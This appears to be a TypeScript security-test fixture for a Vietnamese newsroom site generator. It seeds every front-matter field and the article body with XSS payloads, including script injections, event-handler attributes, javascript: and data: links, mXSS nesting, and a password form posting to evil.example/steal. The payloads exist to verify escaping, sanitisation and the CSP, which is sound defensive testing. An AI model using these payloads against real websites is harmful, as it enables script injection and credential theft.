/**
 * The XSS catalogue: one fixture newsroom whose every reporter-controlled field
 * carries a payload (titles, names, tags, sources with URLs, captions, alt
 * texts, category names, slugs, aliases, raw HTML and links in the body).
 * Built once (see shared-build.ts) and checked twice: as parsed HTML/XML in
 * `xss.test.ts` and in Chromium under the real CSP in
 * `tests/browser/security.test.ts`.
 */
import path from 'node:path';
import { projectRoot } from '../../scripts/lib/paths.ts';
import { type FixtureSpec, SAMPLE_IMAGE } from '../helpers/fixture.ts';

export const NOW = '2025-01-01T08:00:00+07:00';

/** Front-matter payloads, by where they are shown. */
export const P = {
  title: '</title><script>alert("xss-title")</script> Tiêu đề <b>đậm</b>',
  plainTitle: 'Tin "thường" & <i>nghiêng</i> ]]> <![CDATA[ x',
  lead: '</script><script>alert("xss-lead")</script><!-- "ngoặc" & dấu và',
  author: '<svg onload=alert("xss-author")>',
  authorAttribute: "' onfocus='alert(\"xss-author2\")' autofocus x='",
  photographer: '<iframe src=javascript:alert("xss-photographer")></iframe>',
  sourceName: '<b onmouseover=alert("xss-source")>Báo</b>',
  sourceUrl: 'https://example.org/"><script>alert("xss-source-url")</script>',
  tagScript: '<script>alert("xss-tag")</script>',
  tagAttribute: '"><img src=x onerror=alert("xss-tag2")>',
  tagTemplate: "{{constructor.constructor('alert(1)')()}}",
  coverAlt: `" onerror="alert('xss-alt')`,
  coverCaption: '<img src=x onerror=alert("xss-caption")>',
  categoryName: 'Thời sự </title><script>alert("xss-category")</script>',
  categoryDescription: '"><img src=x onerror=alert("xss-category-description")>',
  slug: '"><svg onload=alert("xss-slug")>',
  alias: '/cu/"><svg/onload=alert("xss-alias")>/',
  bodyImageAlt: `Ảnh" onerror="alert('xss-body-alt')`,
  figcaption: `<script>alert('xss-figcaption')</script>`,
} as const;

/** Raw HTML and links pasted into the body of the payload article. */
export const BODY_PAYLOADS = [
  `<script>alert('xss-body-script')</script>`,
  `<img src="./images/anh.jpg" alt="ảnh" onerror="alert('xss-body-img')">`,
  `<iframe src="javascript:alert('xss-body-iframe')"></iframe>`,
  `<svg onload="alert('xss-body-svg')"><circle r="4"/></svg>`,
  '<a href="javascript:alert(\'xss-body-link\')">liên kết</a>',
  '<a href="  JaVa&#x09;ScRiPt:alert(\'xss-body-link2\')">liên kết 2</a>',
  '<iframe src="https://evil.example/embed/xss"></iframe>',
  '<style>body{display:none}</style>',
  '<form action="https://evil.example/steal"><input name="password"><button>Gửi</button></form>',
  '<object data="https://evil.example/x.swf"></object>',
  `<details open ontoggle="alert('xss-body-details')"><summary>Chi tiết</summary>nội dung</details>`,
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  `<math><mtext><table><mglyph><style><img src="./images/anh.jpg" alt="" onerror="alert('xss-body-mxss')"></style></mglyph></table></mtext></math>`,
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">liên kết data</a>',
  "[liên kết markdown](javascript:alert('xss-md-link'))",
  "[liên kết tham chiếu][r]\n\n[r]: vbscript:msgbox('xss-md-ref')",
  '<p>Đoạn <a href="/kinh-te/" onclick="alert(\'xss-onclick\')" style="color:red">có onclick</a></p>',
];

/**
 * Payloads `npm run check` already refuses, so the site above cannot carry
 * them: `xss.test.ts` checks that the build stops on them (and the Markdown
 * tests that the sanitizer would neutralise them anyway).
 */
export const REFUSED_BODY_PAYLOADS = [
  '![ảnh data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![ảnh ngoài](https://tracker.example/pixel.gif)',
  `<img src=x onerror="alert('xss-img')">`,
];

export const EMBED = 'https://www.youtube-nocookie.com/embed/xss-ok';

const yaml = (value: string) => JSON.stringify(value);

export const PAYLOAD_ARTICLE_URL = '/thoi-su/bai-xss/';
export const PLAIN_ARTICLE_URL = '/thoi-su/svg-onload-alert-xss-slug/';
/** Seeded in the fixture's url-history.json: the plain article's earlier address. */
export const HISTORY_URL = '/thoi-su/tin-cu-hon/';

export const XSS_FIXTURE: FixtureSpec = {
  categories: [
    '- slug: thoi-su',
    `  name: ${yaml(P.categoryName)}`,
    `  description: ${yaml(P.categoryDescription)}`,
    '- slug: kinh-te',
    '  name: Kinh tế',
    '',
  ].join('\n'),
  articles: [
    {
      path: '2024/09/bai-xss.md',
      frontMatter: [
        `title: ${yaml(P.title)}`,
        'category: thoi-su',
        'date: 2024-09-18 08:00',
        `author: [${yaml(P.author)}, ${yaml(P.authorAttribute)}]`,
        `photographer: ${yaml(P.photographer)}`,
        'source:',
        `  name: ${yaml(P.sourceName)}`,
        `  url: ${yaml(P.sourceUrl)}`,
        `lead: ${yaml(P.lead)}`,
        `tags: [${yaml(P.tagScript)}, ${yaml(P.tagAttribute)}, ${yaml(P.tagTemplate)}]`,
        'cover:',
        '  src: ./images/anh.jpg',
        `  alt: ${yaml(P.coverAlt)}`,
        `  caption: ${yaml(P.coverCaption)}`,
        `aliases: [${yaml('/tin-cu/bai-xss/')}, ${yaml(P.alias)}, ${yaml('/2019/05/bai-xss.html')}]`,
      ].join('\n'),
      body: [
        'Đoạn đầu của bài viết.',
        '',
        '## <script>alert("xss-heading")</script> Mục một',
        '',
        ...BODY_PAYLOADS.flatMap((payload) => [payload, '']),
        `![${P.bodyImageAlt}](./images/anh.jpg "${P.figcaption}")`,
        '',
        `<iframe src="${EMBED}" title="Video" width="560" height="315" allowfullscreen></iframe>`,
        '',
        // A code block: with syntax highlighting on, Shiki would add style attributes the CSP refuses.
        "```js\ndocument.title = '<script>alert(1)</script>';\n```",
        '',
        'Xem [báo cáo](https://example.org/bao-cao) và [chuyên mục](/kinh-te/).',
        '',
        'Đoạn cuối của bài viết.',
      ].join('\n'),
    },
    {
      path: '2024/09/bai-thuong.md',
      frontMatter: [
        `title: ${yaml(P.plainTitle)}`,
        'category: thoi-su',
        'date: 2024-09-17 08:00',
        'author: Lê Oanh',
        `slug: ${yaml(P.slug)}`,
        `tags: [${yaml(P.tagScript)}]`,
      ].join('\n'),
      // No lead: the excerpt (lists, feeds, meta description) comes from a body with control characters and CDATA ends.
      body: 'Mở đầu \u0008 có ký tự \u000b điều khiển ]]> và <![CDATA[ trong văn bản & dấu <và>.\n\nĐoạn hai.',
    },
    {
      path: '2024/09/kinh-te.md',
      frontMatter: [`title: "Kinh tế hôm nay"`, 'category: kinh-te', 'date: 2024-09-16 08:00', 'author: Trần Minh', `tags: [${yaml(P.tagScript)}]`].join('\n'),
      body: 'Tin kinh tế.',
    },
  ],
  files: {
    'articles/2024/09/images/anh.jpg': SAMPLE_IMAGE,
    'url-history.json': path.join(projectRoot, 'tests/security/fixtures/url-history.json'),
  },
};
